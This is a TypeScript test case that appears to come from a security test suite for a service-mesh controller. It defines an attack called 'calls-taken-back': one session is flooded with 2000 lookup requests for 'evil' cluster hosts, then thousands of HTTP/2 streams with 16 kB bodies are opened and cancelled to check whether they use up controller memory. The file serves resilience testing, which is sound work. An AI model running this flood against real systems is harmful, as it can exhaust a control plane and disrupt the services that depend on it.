import { setTimeout as pause } from "node:timers/promises";
import { callHeaders, message } from "../../support/hostile-client.ts";
import { call, pathOf, requestOf, session } from "../calls.ts";
import { stay } from "../sockets.ts";
import type { ServerAttack } from "../shape.ts";

export const callsTakenBack: ServerAttack = {
  name: "calls-taken-back",
  claim: "Whole requests of 16 kB that are taken back while they wait for their turn cost no memory.",
  victim: "controller",
  good: ["certificates", "streams"],
  seconds: 8,
  attack: async (target, over) => {
    const path = pathOf("destination", "Get");
    const certificate = target.certificates?.mallory;
    // Its share is used up first, so that all that follows has to wait.
    const busy = await session(target, { to: "destination", certificate });
    if (busy === undefined) return { says: "no connection", happened: false };
    for (let index = 0; index < 2000 && !busy.destroyed; index += 1) {
      call(busy, path, requestOf("destination", "Get", { path: `s${index}.evil.svc.cluster.local:80` }));
      if (index % 100 === 99) await pause(5);
    }
    const body = message(Buffer.alloc(16_000));
    let opened = 0;
    for (let connections = 0; !over.aborted && connections < 60; connections += 1) {
      const on = await session(target, { to: "destination", certificate });
      if (on === undefined) continue;
      for (let index = 0; index < 500 && !on.destroyed && !over.aborted; index += 1) {
        const stream = on.request(callHeaders(path));
        stream.on("error", () => undefined).resume();
        stream.end(body);
        setTimeout(() => stream.close(8), 150);
        opened += 1;
        if (index % 50 === 49) await pause(10);
      }
    }
    await stay(over);
    return { says: `${opened} requests of one identity, each taken back`, happened: opened > 500 };
  },
};
